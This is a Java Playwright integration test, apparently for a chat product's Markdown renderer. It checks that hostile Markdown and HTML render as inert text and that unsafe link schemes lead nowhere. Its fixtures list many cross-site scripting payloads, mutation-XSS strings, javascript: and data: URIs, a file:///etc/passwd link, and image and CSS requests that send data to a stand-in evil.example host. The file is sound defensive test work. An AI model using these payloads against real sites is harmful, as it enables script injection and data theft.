package io.whetstone.product;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import java.net.URI;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What models and people write in Markdown, drawn by the element of the pages in a browser: nothing of it acts. */
class MarkdownBrowserIT {
    private static final List<String> ELEMENTS = List.of(
            "a",
            "blockquote",
            "br",
            "button",
            "code",
            "del",
            "div",
            "em",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "li",
            "ol",
            "p",
            "pre",
            "span",
            "strong",
            "table",
            "tbody",
            "td",
            "th",
            "thead",
            "tr",
            "ul");

    private static final String DRAW = """
            async (text) => {
              await customElements.whenDefined('ws-answer-text');
              const answer = document.createElement('ws-answer-text');
              answer.text = text;
              document.body.append(answer);
              await answer.updateComplete;
              await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50)));
              const inside = [...answer.shadowRoot.querySelectorAll('.text *')];
              const drawn = {
                text: answer.shadowRoot.querySelector('.text').textContent,
                elements: inside.map((it) => it.tagName.toLowerCase()),
                attributes: inside.flatMap((it) => it.getAttributeNames()),
                links: inside.filter((it) => it.tagName === 'A').map((it) => ({
                  href: it.getAttribute('href') ?? '', rel: it.rel, target: it.target })),
              };
              answer.remove();
              return drawn;
            }""";

    @SuppressWarnings("NullAway.Init")
    static Chromium chromium;

    final Product product = Product.shared();
    final List<String> acted = new ArrayList<>();

    @SuppressWarnings("NullAway.Init")
    Page page;

    @BeforeAll
    static void open() {
        chromium = Chromium.open();
    }

    @AfterAll
    static void close() {
        if (chromium != null) {
            chromium.close();
        }
    }

    @BeforeEach
    void visit() {
        page = chromium.newPage(ColorScheme.LIGHT, 1440);
        var person = Person.make(product, "reader");
        page.navigate(product.url() + "/sign-in?next=/chat");
        page.getByLabel("Email").fill(person.email());
        page.getByLabel("Password").fill(Product.PASSWORD);
        page.keyboard().press("Enter");
        page.waitForURL("**/chat");
        page.onDialog(dialog -> {
            acted.add(dialog.message());
            dialog.dismiss();
        });
        page.onRequest(request -> {
            if (!request.url().startsWith(product.url())) {
                acted.add(request.url());
            }
        });
    }

    @AfterEach
    void leave() {
        page.close();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "text <img src=x onerror=alert(1)> text",
                "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
                "<base href=\"https://evil.example/\"><link rel=stylesheet href=https://evil.example/x.css>",
                "<a href=\"javascript:alert(1)\" onmouseover=alert(1)>a</a>",
                "<details open ontoggle=alert(1)><summary>x</summary></details>",
                "<input autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
                "<p style=\"background:url(https://evil.example/x)\">x</p><style>@import 'https://evil.example/x';</style>",
                "```\"><img src=x onerror=alert(1)>\ncode\n```",
                "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
                "# <img src=x onerror=alert(1)>",
                "![x\" onerror=\"alert(1)](https://evil.example/pixel.png)",
                "![](https://evil.example/pixel.png?data=secret)",
                "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"
            })
    void what_is_hostile_is_shown_as_text(String hostile) {
        var drawn = draw(hostile);

        assertThat(ELEMENTS).containsAll(texts(drawn, "elements"));
        assertThat(texts(drawn, "attributes"))
                .isSubsetOf("class", "type", "tabindex", "role", "aria-label", "scope", "href", "rel", "target");
        assertThat(texts(drawn, "attributes")).doesNotContain("href");
        assertThat(acted).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](java&#10;script:alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](vbscript:msgbox(1))",
                "[x](file:///etc/passwd)",
                "[x](blob:https://evil.example/1)",
                "[x](ftp://evil.example/x)",
                "[x](tel:0900)",
                "[x](whatever:x)",
                "<javascript:alert(1)>",
                "[x]\n\n[x]: javascript:alert(1)"
            })
    void a_link_of_another_scheme_leads_nowhere(String hostile) {
        var drawn = draw(hostile);

        assertThat(links(drawn)).allSatisfy(link -> assertThat(link.get("href")).isEqualTo(""));
        page.evaluate("() => document.querySelector('ws-answer-text')?.shadowRoot.querySelector('a')?.click()");
        assertThat(acted).isEmpty();
    }

    @Test
    void a_link_shows_its_reader_away_and_tells_nothing() {
        var drawn = draw("""
                [page](https://example.org/a?b=c "a \\" onmouseover=\\"alert(1)") <https://example.net/> https://example.com
                [mail](mailto:ada@example.org) [here](/datasets)""");

        assertThat(links(drawn)).hasSize(5).allSatisfy(link -> {
            assertThat(link.get("rel")).isEqualTo("noopener noreferrer nofollow");
            assertThat(link.get("target")).isEqualTo("_blank");
        });
        assertThat(links(drawn).stream().map(link -> URI.create(link.get("href"))))
                .extracting(URI::toString)
                .containsExactly(
                        "https://example.org/a?b=c",
                        "https://example.net/",
                        "https://example.com",
                        "mailto:ada@example.org",
                        "/datasets");
        assertThat(texts(drawn, "attributes")).isSubsetOf("href", "rel", "target", "title");
    }

    @Test
    void what_is_no_markup_of_ours_is_still_read() {
        assertThat(String.valueOf(draw("<b>bold</b> & **strong**").get("text")).strip())
                .isEqualTo("<b>bold</b> & strong");
    }

    @SuppressWarnings("unchecked")
    private Map<String, Object> draw(String text) {
        return (Map<String, Object>) page.evaluate(DRAW, text);
    }

    @SuppressWarnings("unchecked")
    private static List<String> texts(Map<String, Object> drawn, String what) {
        return (List<String>) drawn.getOrDefault(what, List.of());
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, String>> links(Map<String, Object> drawn) {
        return (List<Map<String, String>>) drawn.getOrDefault("links", List.of());
    }
}
